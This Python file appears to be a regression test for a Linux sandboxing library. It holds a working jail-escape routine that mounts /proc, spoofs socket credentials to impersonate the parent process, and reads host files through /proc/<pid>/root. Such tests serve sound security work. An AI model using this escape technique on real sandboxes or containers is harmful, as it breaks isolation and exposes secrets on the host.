# fails: 1.1 1.2 1.3 1.4
# says: root directory
"""Stays in the jail and reads the secret through /proc; the words are said in the name of a process outside."""

import os
import socket
import struct

from thinwalls import linux


def escape():
    linux.mount("proc", "/proc", "proc", 0)
    outside = os.getppid()
    name = [part for part in open("/proc/self/cmdline").read().split("\0") if "echo" in part]
    stream = socket.socket(fileno=os.dup(1))
    credentials = [(socket.SOL_SOCKET, 2, struct.pack("3i", outside, 0, 0))]
    for word in (*name, "hello"):
        stream.sendmsg([word.encode() + b"\n"], credentials)
    # What is to be run says its own hello: it goes through us.
    ours, theirs = socket.socketpair()
    if os.fork() == 0:
        os.dup2(theirs.fileno(), 1)
        keyboard, theirs_in = socket.socketpair()
        if os.fork() == 0:
            os.dup2(theirs_in.fileno(), 0)
            return
        stream.sendmsg([ours.recv(100)], credentials)
        while line := os.read(0, 4096).decode():
            verb, _, path = line.strip().partition(" ")
            if verb == "cat":
                with open(f"/proc/{outside}/root{path}") as secret:
                    stream.sendmsg([secret.read().encode()], credentials)
            keyboard.sendall(line.encode())
    os.wait()
    os._exit(0)
